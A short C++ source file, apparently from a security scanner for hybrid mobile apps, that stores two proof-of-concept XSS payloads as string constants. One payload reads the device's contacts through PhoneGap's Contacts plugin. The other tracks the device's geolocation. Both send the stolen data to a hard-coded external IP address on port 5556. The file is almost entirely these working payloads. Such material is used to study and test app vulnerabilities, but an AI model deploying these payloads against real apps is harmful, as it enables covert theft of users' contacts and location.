#include "hybridscan/poc_payloads.hpp"

namespace hybridscan {

std::string_view poc_contacts_exfiltration() {
  return R"POC(<img src=x onerror="PhoneGap.exec(function(a){m='';for(i=0;i<a.length;i++){m+=a[i].displayName+'\n';}alert(m);document.write('<img src=http://128.230.213.66:5556?c='+m+'>');},function(e){},'Contacts','search',[['displayName'],{}])">)POC";
}

std::string_view poc_geolocation_watch() {
  return R"POC(<img src=x onerror="navigator.geolocation.watchPosition(function(loc){m='Latitude:'+loc.coords.latitude+'\n'+'Longitude:'+loc.coords.longitude;alert(m);b=document.createElement('img');b.src='http://128.230.213.66:5556?c='+m})">)POC";
}

}  // namespace hybridscan
